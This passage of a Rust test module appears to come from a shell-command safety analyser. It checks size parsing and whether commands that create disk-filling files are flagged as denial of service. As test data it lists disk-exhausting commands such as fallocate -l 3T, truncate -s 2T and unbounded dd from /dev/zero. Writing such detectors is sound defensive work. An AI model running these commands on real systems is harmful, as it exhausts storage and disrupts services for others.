    fn sizes_read_as_coreutils_writes_them() {
        assert_eq!(size_bytes("2T"), Some(2 << 40));
        assert_eq!(size_bytes("1TiB"), Some(1 << 40));
        assert_eq!(size_bytes("1TB"), Some(1_000_000_000_000));
        assert_eq!(size_bytes("512"), Some(512));
        assert_eq!(size_bytes("4b"), Some(2048));
        assert_eq!(size_bytes("1Mx4"), Some(4 << 20));
        assert_eq!(size_bytes("20G"), Some(20 << 30));
        assert_eq!(size_bytes("lots"), None);
        assert_eq!(size_bytes("1Q"), None);
    }

    fn fills(cmd: &str) -> bool {
        let ctx = crate::ShellContext {
            cwd: "/home/dev/project".into(),
            home: "/home/dev".into(),
            project_dir: Some("/home/dev/project".into()),
        };
        crate::analyze(cmd, &ctx)
            .denial_of_service
            .iter()
            .any(|f| f.kind == "disk_fill")
    }

    #[test]
    fn files_large_enough_to_fill_a_disk_are_denial_of_service() {
        for cmd in [
            "fallocate -l 3T /srv/data/pad",
            "fallocate --length=1TiB ~/x.bin",
            "truncate -s 2T big.raw",
            "dd if=/dev/zero of=/mnt/shared/zeros bs=4M",
            "dd if=/dev/urandom of=noise.bin bs=1G count=1100",
            "nice dd of=out.bin if=/dev/zero",
        ] {
            assert!(fills(cmd), "{cmd}");
        }
        for cmd in [
            "fallocate -l 16G /swapfile",
            "truncate -s 200G vm.qcow2",
            "dd if=/dev/zero of=zeros bs=1M count=100",
            "dd if=/dev/zero of=/dev/null bs=1M",
            "dd if=ubuntu.iso of=/dev/sdb bs=4M",
            "dd if=/dev/urandom bs=32 count=1",
        ] {
            assert!(!fills(cmd), "{cmd}");
        }
    }
}
